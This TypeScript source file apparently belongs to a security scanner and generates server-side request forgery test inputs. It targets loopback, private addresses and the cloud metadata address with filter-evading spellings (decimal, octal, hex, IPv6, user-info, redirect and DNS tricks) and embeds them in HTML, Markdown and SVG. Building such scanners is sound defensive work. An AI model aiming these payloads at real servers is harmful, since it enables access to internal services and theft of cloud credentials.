// Addresses that a server should not be sent to: its own machine, its cloud's metadata, in spellings that filters often miss.

import type { Json } from '#model/declaration.ts';
import type { Proof } from '#model/injection.ts';
import { type InjectionGroup, type InjectionKind, isNamed, type Mark, says, single, vocabularyWords } from './injection-kind.ts';

const URLS = vocabularyWords('url urls uri link href endpoint website webhook site feed page callback avatar image');
const HOSTS = vocabularyWords('host hostname domain server address ip');
const MARKUP = vocabularyWords('html markdown md markup svg css document template page');
// <img src="https://images.example/a.png">, [a](http://b.example)
const WITH_ADDRESS = /https?:\/\/[^\s"'<>)]+/;
const NETWORK = vocabularyWords('http https url fetch fetches download web website page request api internet link site');
const METADATA = '169.254.169.254';
const SITE = 'www.site.example';
/** The sink's name server returns the address that precedes this name: 127-0-0-1.ip.site.example. */
const LEADING_INSIDE = 'ip.site.example';

export const ssrf: InjectionKind = {
	class: 'ssrf',
	groups(target) {
		if (target.kind !== 'text') return [];
		const isUrl = isNamed(target, URLS) || (typeof target.ordinary === 'string' && /^https?:\/\//.test(target.ordinary));
		if (isUrl) return urls(target.ordinary);
		if (isNamed(target, HOSTS)) return hosts();
		if (isNamed(target, MARKUP) || (typeof target.ordinary === 'string' && WITH_ADDRESS.test(target.ordinary)))
			return inText(target.ordinary);
		return says(target, NETWORK) ? [inAuthority(73, ''), inAuthority(72, '//'), inAuthority(71, 'http://'), inAuthority(57, '@')] : [];
	},
};

function urls(ordinary: Json): readonly InjectionGroup[] {
	// A tool that requires an extension gets the one of its ordinary call: /x/logo.png
	const tail = tailOf(ordinary);
	const inner = (host: string, mark: Mark) => `http://${host}:${portOf(mark)}/${mark.word}${tail}`;
	const local = (weight: number, variant: string, host: string, reached = '127.0.0.1') =>
		single(weight, (mark) => ({ variant, value: inner(host, mark), proofs: [contacted(reached, portOf(mark))] }));
	// A resolver returns either of its addresses.
	const named = (weight: number, variant: string, host: string) =>
		single(weight, (mark) => ({
			variant,
			value: inner(host, mark),
			proofs: [contacted('127.0.0.1', portOf(mark)), contacted('::1', portOf(mark))],
		}));
	const redirected = (weight: number, variant: string, scheme: string, host: string) =>
		single(weight, (mark) => ({
			variant,
			value: `${scheme}://${SITE}/redirect?url=${encodeURIComponent(inner(host, mark))}${tail === '' ? '' : `&as=${encodeURIComponent(tail)}`}`,
			proofs: [contacted(host, portOf(mark))],
		}));
	return [
		local(90, 'loopback', '127.0.0.1'),
		single(89, () => ({ variant: 'metadata', value: `http://${METADATA}/latest/meta-data/`, proofs: [contacted(METADATA)] })),
		redirected(84, 'a redirect from an ordinary host', 'http', '127.0.0.1'),
		single(83, (mark) => ({
			variant: 'a name that leads to loopback',
			value: inner(`${mark.word}.127-0-0-1.${LEADING_INSIDE}`, mark),
			proofs: [contacted('127.0.0.1', portOf(mark))],
		})),
		local(78, 'a private address', '10.20.0.8', '10.20.0.8'),
		local(77, 'a decimal address', '2130706433'),
		local(76, 'IPv6 loopback', '[::1]', '::1'),
		local(75, 'an IPv4 address in IPv6', '[::ffff:127.0.0.1]'),
		redirected(74, 'a redirect from an ordinary host over TLS', 'https', '127.0.0.1'),
		named(73, 'the name localhost', 'localhost'),
		named(60, 'the name localhost with a final dot', 'localhost.'),
		local(59, 'an octal address', '0177.0.0.1'),
		local(58, 'a hexadecimal address', '0x7f000001'),
		local(57, 'a short address', '127.1'),
		local(56, 'an address after a user name', `${SITE}@127.0.0.1`),
		local(55, 'the unspecified address', '0.0.0.0', '0.0.0.0'),
		local(54, 'the unspecified IPv6 address', '[::]', '::'),
		local(53, 'a unique local IPv6 address', '[fd00:20::8]', 'fd00:20::8'),
	];
}

/** https://www.site.example/a/logo.png?size=2 → /a/logo.png */
function tailOf(ordinary: Json): string {
	if (typeof ordinary !== 'string' || !URL.canParse(ordinary)) return '';
	const { pathname } = new URL(ordinary);
	return pathname === '/' ? '' : pathname;
}

/** Puts an address inside a document. A converter, an importer or an inliner fetches what the document names. */
function inText(ordinary: Json): readonly InjectionGroup[] {
	const inner = (mark: Mark, host = '127.0.0.1') => `http://${host}:${portOf(mark)}/${mark.word}.png`;
	const one = (weight: number, variant: string, spell: (address: string) => string) =>
		single(weight, (mark) => ({ variant, value: spell(inner(mark)), proofs: [contacted('127.0.0.1', portOf(mark))] }));
	const own = typeof ordinary === 'string' && WITH_ADDRESS.test(ordinary) ? ordinary : undefined;
	return [
		...(own === undefined ? [] : [one(81, 'an address in the text', (address) => own.replace(WITH_ADDRESS, address))]),
		one(
			74,
			'addresses in HTML',
			(address) => `<html><head><link rel="stylesheet" href="${address}"></head><body><img src="${address}"></body></html>`,
		),
		one(73, 'an address in Markdown', (address) => `# Notes\n\n![picture](${address})\n`),
		one(
			58,
			'an address in SVG',
			(address) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}" width="9" height="9"/></svg>`,
		),
	];
}

function hosts(): readonly InjectionGroup[] {
	const host = (weight: number, variant: string, value: string, reached: string) =>
		single(weight, (mark) => ({ variant, value: `${value}:${portOf(mark)}`, proofs: [contacted(reached, portOf(mark))] }));
	return [
		host(84, 'loopback', '127.0.0.1', '127.0.0.1'),
		single(83, () => ({ variant: 'metadata', value: METADATA, proofs: [contacted(METADATA)] })),
		host(58, 'a decimal address', '2130706433', '127.0.0.1'),
	];
}

/**
 * A word that takes over the address that it is inserted into: https://<word>.api.example, https://api.example<word>; or a path with a host of its
 * own: new URL('//host/x', base).
 */
function inAuthority(weight: number, before: string): InjectionGroup {
	return single(weight, (mark) => ({
		variant: 'a host in the place of a word',
		value: `${before}127.0.0.1:${portOf(mark)}/#`,
		proofs: [contacted('127.0.0.1', portOf(mark))],
	}));
}

function contacted(host: string, port?: number): Proof {
	return { kind: 'contacted', host, ...(port === undefined ? {} : { port }) };
}

/** A port of its own distinguishes each step. */
function portOf({ left, right }: Mark): number {
	return 20_000 + ((left * 31 + right) % 20_000);
}
